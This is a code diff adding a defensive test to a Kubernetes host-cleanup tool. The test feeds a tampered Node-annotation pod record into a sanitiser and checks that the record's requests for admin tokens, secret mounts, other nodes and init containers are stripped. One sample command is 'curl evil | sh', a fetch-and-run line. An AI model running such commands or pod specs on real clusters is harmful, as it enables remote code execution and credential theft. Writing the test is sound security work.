@@ -169,3 +169,51 @@ def test_keep_host_runs_no_cleanup_pod(api: KubeApiDouble) -> None:
     with CleanupKubelet(api, CLEAN_REPORT).running() as kubelet:
         assert main(["uninstall", "--all", "--wait", "0", "--keep-host"]) == 0
     assert kubelet.seen == [] and not api.calls("POST", "/pods")
+
+
+def test_a_hostile_record_runs_only_what_a_cleanup_pod_may_carry() -> None:
+    """The record is a Node annotation that the node's kubelet or the daemon's account can
+    write: a record asking for a service account's token, a Secret's values, another node,
+    a second container or a secret volume runs none of it; the cleanup command itself is
+    required; ``--image`` replaces the recorded image."""
+    good = hostcleanup.pod_spec(DAEMONSET)
+    hostile = json.loads(json.dumps(good))
+    hostile.update(
+        serviceAccountName="clusterrole-aggregator",
+        automountServiceAccountToken=True,
+        nodeName="another-node",
+        imagePullSecrets=[{"name": "registry-key"}],
+        initContainers=[{"name": "x", "image": "evil"}],
+    )
+    hostile["volumes"].append({"name": "tok", "secret": {"secretName": "admin-token"}})
+    main = hostile["containers"][0]
+    main["envFrom"] = [{"secretRef": {"name": "admin-token"}}]
+    main["env"].append({"name": "T", "valueFrom": {"secretKeyRef": {"name": "a", "key": "b"}}})
+    main["volumeMounts"].append({"name": "tok", "mountPath": "/tok"})
+    node = {"metadata": {"annotations": {RECORD: json.dumps({"namespace": "kube-system",
+                                                             "spec": hostile})}}}  # fmt: skip
+    template = hostcleanup.recorded(node, PREFIX)
+    assert template is not None and template.namespace == "kube-system"
+    spec = dict(template.spec)
+    for key in ("serviceAccountName", "nodeName", "imagePullSecrets", "initContainers"):
+        assert key not in spec, key
+    assert spec["automountServiceAccountToken"] is False
+    assert all("hostPath" in v for v in spec["volumes"])
+    (container,) = spec["containers"]
+    assert "envFrom" not in container
+    assert all("secretKeyRef" not in json.dumps(e) for e in container["env"])
+    assert {m["name"] for m in container["volumeMounts"]} <= {v["name"] for v in spec["volumes"]}
+    # what the installed DaemonSet's own cleanup pod carries comes through unchanged
+    env_of = {e["name"]: e for e in good["containers"][0]["env"]}
+    assert all(env_of[e["name"]] == e for e in container["env"])
+    assert container["args"] == good["containers"][0]["args"]
+    assert container["image"] == good["containers"][0]["image"]
+    assert hostcleanup.recorded(node, PREFIX, "reg/gpushare:2").spec["containers"][0][  # type: ignore[union-attr]
+        "image"
+    ] == "reg/gpushare:2"
+    # not the cleanup command, another namespace shape, or not a spec: no record at all
+    other = json.loads(json.dumps(good))
+    other["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
+    for namespace, body in (("kube-system", other), ("Bad_NS", good), ("kube-system", [1])):
+        text = json.dumps({"namespace": namespace, "spec": body})
+        assert hostcleanup.recorded({"metadata": {"annotations": {RECORD: text}}}, PREFIX) is None
